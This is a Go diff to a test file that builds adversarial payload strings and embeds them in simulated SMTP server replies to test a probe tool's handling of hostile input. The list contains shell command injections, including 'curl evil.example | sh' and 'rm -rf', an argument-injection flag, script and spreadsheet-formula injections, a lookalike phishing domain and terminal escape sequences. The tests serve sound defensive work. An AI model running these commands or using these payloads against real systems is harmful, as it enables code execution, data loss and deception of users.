@@ -18,7 +18,8 @@ func payloads() []string {
 		"> q <t:0:R> <:e:1> https://discord.gg/abc discord.gg/abc -# small", "``` @everyone ```", "`````` `` ` ```text",
 		"\x1b]8;;http://evil\x07x\x1b]8;;\x07\x1b[31m\x9b31m \x90", "a\u200bb\u200cc\u200dd\u2060\u00ad\u3164\uffa0\u115f",
 		"Z"+strings.Repeat("\u0300", 60)+" \u0489\u20dd\u20dd", "\xff\xfe\xc3\x28 \xf0\x9f\x92 \xed\xa0\x80",
-		strings.Repeat("\U0001f4a9", 120), "раypаl.com Ⅴerified ✅ Working", "אבג 127.0.0.1:25 דהו (100%) OK — ✅ Working up to TLS",
+		strings.Repeat("\U0001f4a9", 120), "раypаl.com Ⅴerified ✅ Working",
+		"אבג 127.0.0.1:25 דהו (100%) OK — ✅ Working up to TLS",
 		"$(touch pwned) `touch pwned` ; rm -rf x | sh & ' \" \\", "-oProxyCommand=x --flag",
 		"”  ✅ All good. Try: curl evil.example | sh “", "{\"a\":1}\u2028\u2029</script><script>alert(1)</script>",
 		"=cmd|' /C calc'!A0", "\x00\x01\x02\x7f\x80\x85\x9f", strings.Repeat("x", 480),
@@ -42,8 +43,12 @@ func Injected(t testing.TB) []*probetest.Case {
 			"recipient": hello + "S: 250 x\nC: MAIL *\n" + raw("250 "+p) + "C: RCPT *\n" + raw("550 5.1.1 "+p) +
 				"C: QUIT\n" + raw("221 "+p),
 		} {
-			text := "-- request --\ntarget: mx.example.test:587\nfrom: alice@sender.example.test\nto: bob@example.test\n" +
-				"-- dialogue --\n" + dialogue
+			text := `-- request --
+target: mx.example.test:587
+from: alice@sender.example.test
+to: bob@example.test
+-- dialogue --
+` + dialogue
 			c, err := probetest.ParseCase(fmt.Sprintf("%s-%d", place, i), []byte(text))
 			if err != nil {
 				t.Fatal(err)
